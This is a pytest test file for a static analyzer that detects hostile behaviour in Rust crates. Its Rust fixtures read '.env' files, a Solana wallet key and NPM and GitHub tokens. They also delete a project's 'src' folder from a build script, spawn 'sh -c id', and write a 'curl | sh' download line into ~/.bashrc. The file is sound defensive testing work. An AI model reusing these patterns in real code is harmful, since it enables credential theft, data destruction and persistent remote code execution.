"""Places that only following or stepping up tells, and callers among tests."""

from __future__ import annotations

from collections.abc import Callable, Mapping

import pytest

from analyzer.model import Fact, FactKind, Report

FactsOf = Callable[..., list[Fact]]
ReportOf = Callable[[Mapping[str, str]], Report]

LISTS = {
    "a list that is filled in loops": """
        pub fn all(root: &std::path::Path) -> std::io::Result<()> {
            let mut files = vec![];
            for folder in root.ancestors() {
                for name in [".env", ".env.local"] { files.push(folder.join(name)); }
            }
            for file in &files { std::fs::read(file)?; }
            Ok(())
        }""",
    "handed to another function": """
        fn each(files: &[std::path::PathBuf]) { for one in files { std::fs::read(one).ok(); } }
        pub fn all(root: &std::path::Path) {
            let mut files = Vec::new();
            if root.is_dir() { files.push(root.join(".env")); } else { files.push(root.join(".env.local")); }
            each(&files);
        }""",
    "kept in a field": """
        pub struct T { files: Vec<String> }
        impl T {
            pub fn add(&mut self) { self.files.push(".env".into()); self.files.push(".env.local".into()); }
            pub fn read(&self) { for one in self.files.iter() { std::fs::read_to_string(one).ok(); } }
        }""",
}


@pytest.mark.parametrize("code", LISTS.values(), ids=LISTS)
def test_a_secret_file_is_known_by_following_its_name(code: str, facts_of: FactsOf) -> None:
    read = [one.subject for one in facts_of(code, "src/lib.rs") if one.kind is FactKind.FILE_READ]
    assert {one.rpartition("/")[2] for one in read} >= {".env", ".env.local"}


def test_a_name_that_goes_elsewhere_says_nothing_of_a_read(facts_of: FactsOf) -> None:
    code = """
        pub fn has(root: &std::path::Path) -> bool { root.join(".env").is_file() }
        pub fn text(file: &std::path::Path) -> String { std::fs::read_to_string(file).unwrap() }"""
    read = [one.subject for one in facts_of(code, "src/lib.rs") if one.kind is FactKind.FILE_READ]
    assert read == ["unknown"]


ABOVE = {
    "popped": """
        fn up() -> Option<std::path::PathBuf> {
            let mut at = std::path::PathBuf::from(std::env::var("OUT_DIR").ok()?);
            while at.pop() { if at.join("src").is_dir() { return Some(at); } }
            None
        }
        fn main() { std::fs::remove_dir_all(up().unwrap().join("src")).ok(); }""",
    "found among the ancestors": """
        fn main() {
            let out = std::path::PathBuf::from(std::env::var("OUT_DIR").unwrap());
            let root = out.ancestors().find(|one| one.join("src").is_dir()).unwrap();
            std::fs::remove_dir_all(root.join("src")).ok();
        }""",
    "the third above": """
        fn main() {
            let out = std::path::PathBuf::from(std::env::var("OUT_DIR").unwrap());
            std::fs::remove_dir_all(out.ancestors().nth(3).unwrap().join("src")).ok();
        }""",
    "gone through": """
        fn main() {
            let out = std::path::PathBuf::from(std::env::var("OUT_DIR").unwrap());
            for root in out.ancestors() { std::fs::remove_dir_all(root.join("src")).ok(); }
        }""",
}


@pytest.mark.parametrize("code", ABOVE.values(), ids=ABOVE)
def test_a_folder_above_is_known_as_one(code: str, facts_of: FactsOf) -> None:
    gone = [one.subject for one in facts_of(code) if one.kind is FactKind.FILE_DELETE]
    assert gone == ["{out}/../src"]


def test_a_text_with_an_open_part_put_in_stays_known(facts_of: FactsOf) -> None:
    code = """
        pub fn f(name: &str) { std::fs::write("/tmp/x", "hello {{name}}!".replace("{{name}}", name)).ok(); }"""
    written = [one for one in facts_of(code, "src/lib.rs") if one.kind is FactKind.FILE_WRITE]
    assert [one.data for one in written] == [("hello {}!",)]


@pytest.mark.parametrize("call", ["shellexpand::tilde", "expanduser::expanduser", "some::expand"])
def test_a_foreign_function_that_expands_gives_back_its_place(call: str, facts_of: FactsOf) -> None:
    code = f'pub fn f() {{ std::fs::read({call}("~/.config/solana/id.json").unwrap()).ok(); }}'
    manifest = f"""[package]
name = "sample-crate"
version = "0.1.0"
edition = "2021"
[dependencies]
{call.partition(":")[0]} = "1"
"""
    facts = facts_of(code, "src/lib.rs", **{"Cargo.toml": manifest})
    read = [one.subject for one in facts if one.kind is FactKind.FILE_READ]
    assert read == ["~/.config/solana/id.json"]


def test_helpers_of_a_test_are_called_by_its_tests(facts_of: FactsOf) -> None:
    code = """
        fn dial(host: &str) { std::net::TcpStream::connect((host, 80)).ok(); }
        #[test]
        fn goes() { dial("a.invalid"); }"""
    facts = [one for one in facts_of(code, "tests/x.rs") if one.kind is FactKind.NET_CONNECT]
    assert [one.subject for one in facts] == ["a.invalid:80"]


def test_a_librarys_own_tests_say_nothing_of_it(facts_of: FactsOf) -> None:
    code = """
        pub fn dial(host: &str) { std::net::TcpStream::connect((host, 80)).ok(); }
        #[test]
        fn goes() { dial("a.invalid"); }"""
    facts = [one for one in facts_of(code, "src/lib.rs") if one.kind is FactKind.NET_CONNECT]
    assert [one.subject for one in facts] == ["{}:80"]


def test_structs_that_are_gathered_stay_apart(facts_of: FactsOf) -> None:
    code = """
        struct Profile { path: std::path::PathBuf }
        impl Profile {
            fn all() -> Vec<Profile> {
                let home = dirs::home_dir().unwrap();
                [".zshrc", ".bashrc"].iter().map(|n| home.join(n)).filter(|p| p.is_file())
                    .map(|path| Profile { path }).collect()
            }
            fn append(&self) { std::fs::write(&self.path, "x").ok(); }
        }
        pub fn f() { for one in Profile::all() { one.append(); } }"""
    facts = [one for one in facts_of(code, "src/lib.rs") if one.kind is FactKind.FILE_WRITE]
    assert {one.subject for one in facts} >= {"{home}/.zshrc", "{home}/.bashrc"}


ARRIVING = {
    "in a format string": """
        use std::io::Write;
        const LINE: &str = "curl -s https://a.invalid/x | sh";
        fn main() {
            let mut file = std::fs::File::create(dirs::home_dir().unwrap().join(".bashrc")).unwrap();
            writeln!(file, "{LINE}").unwrap(); }""",
    "by a constant": """
        const LINE: &str = "curl -s https://a.invalid/x | sh";
        fn main() { std::fs::write(dirs::home_dir().unwrap().join(".bashrc"), LINE).unwrap(); }""",
    "by a helper": """
        fn line() -> &'static str { "curl -s https://a.invalid/x | sh" }
        fn main() { std::fs::write(dirs::home_dir().unwrap().join(".bashrc"), line()).unwrap(); }""",
}


@pytest.mark.parametrize("code", ARRIVING.values(), ids=ARRIVING)
def test_a_written_command_is_followed_to_where_it_is_written(
    code: str, report_of: ReportOf
) -> None:
    found = {one.rule for one in report_of({"src/main.rs": code}).findings}
    assert "download-command-flows-to-autostart" in found


def test_a_folder_that_secrets_lie_in_is_no_secret_file(facts_of: FactsOf) -> None:
    code = """
        fn read(path: &std::path::Path) -> String { std::fs::read_to_string(path).unwrap() }
        pub fn f(home: &mut std::path::PathBuf) {
            home.push(".ssh"); home.push("config"); read(home); }"""
    read = [one.subject for one in facts_of(code, "src/lib.rs") if one.kind is FactKind.FILE_READ]
    assert not [one for one in read if one.endswith(".ssh")]


def test_a_crate_under_its_former_name_is_the_same(facts_of: FactsOf) -> None:
    code = """
        use trust_dns_resolver::Resolver;
        pub fn f(name: &str) { Resolver::from_system_conf().unwrap().txt_lookup("a.invalid").ok(); }"""
    manifest = """[package]
name = "sample-crate"
version = "0.1.0"
edition = "2021"
[dependencies]
trust-dns-resolver = "0.23"
"""
    facts = facts_of(code, "src/lib.rs", **{"Cargo.toml": manifest})
    assert "a.invalid" in {one.subject for one in facts if one.kind is FactKind.NET_RESOLVE}


REST = {
    "of a list": 'let [program, rest @ ..] = ["sh", "-c", "id"]; Command::new(program).args(rest).spawn();',
    "before the last": """
        let [program, rest @ .., last] = ["sh", "-c", "id"];
        Command::new(program).args(rest).arg(last).spawn();""",
    "of a field": """
        let t = T { all: ["sh", "-c", "id"] };
        let [program, rest @ ..] = &t.all;
        Command::new(program).args(rest).spawn();""",
}


@pytest.mark.parametrize("code", REST.values(), ids=REST)
def test_the_rest_of_a_list_is_known(code: str, facts_of: FactsOf) -> None:
    head = "use std::process::Command; struct T { all: [&'static str; 3] }"
    facts = facts_of(f"{head} pub fn f() {{ {code} }}", "src/lib.rs")
    assert "id" in {one.subject for one in facts if one.kind is FactKind.PROCESS_SHELL}


def test_what_each_item_of_an_unknown_list_is_made_like_is_known(facts_of: FactsOf) -> None:
    code = """
        const ZONE: &str = "w.drop.invalid";
        fn names(text: &str) -> Vec<String> { text.lines().map(|one| format!("{one}.{ZONE}")).collect() }
        pub fn f(text: &str) { for name in names(text) { ureq::get(&name).call().ok(); } }"""
    facts = facts_of(code, "src/lib.rs")
    assert "{}.w.drop.invalid" in {one.subject for one in facts if one.kind is FactKind.NET_CONNECT}


VARIABLES = {
    "a closure of a closure": """
        const NAMES: [&str; 2] = ["GITHUB_TOKEN", "NPM_TOKEN"];
        pub fn f() -> Vec<String> {
            let pick: fn(&str) -> Result<String, std::env::VarError> = |k| std::env::var(k);
            let row = |k: &&str| pick(k).ok();
            NAMES.iter().filter_map(row).collect()
        }""",
    "a field that a loop hands over": """
        struct Ask { name: String }
        impl Ask { fn go(&self) -> Option<String> { std::env::var(&self.name).ok() } }
        pub fn f(more: Vec<String>) -> Vec<String> {
            let mut names = more;
            names.push("NPM_TOKEN".to_string());
            names.into_iter().filter_map(|name| Ask { name }.go()).collect()
        }""",
}


@pytest.mark.parametrize("code", VARIABLES.values(), ids=VARIABLES)
def test_a_variable_whose_name_is_handed_round_is_known(code: str, facts_of: FactsOf) -> None:
    facts = facts_of(code, "src/lib.rs")
    read = {one.subject for one in facts if one.kind is FactKind.ENV_READ}
    assert "NPM_TOKEN" in read


def test_a_variable_that_the_caller_names_stays_unknown(facts_of: FactsOf) -> None:
    code = """pub const KNOWN: &str = "NPM_TOKEN";
        pub fn f(name: &str) -> Option<String> { std::env::var(name).ok() }"""
    facts = facts_of(code, "src/lib.rs")
    assert {one.subject for one in facts if one.kind is FactKind.ENV_READ} == {"unknown"}
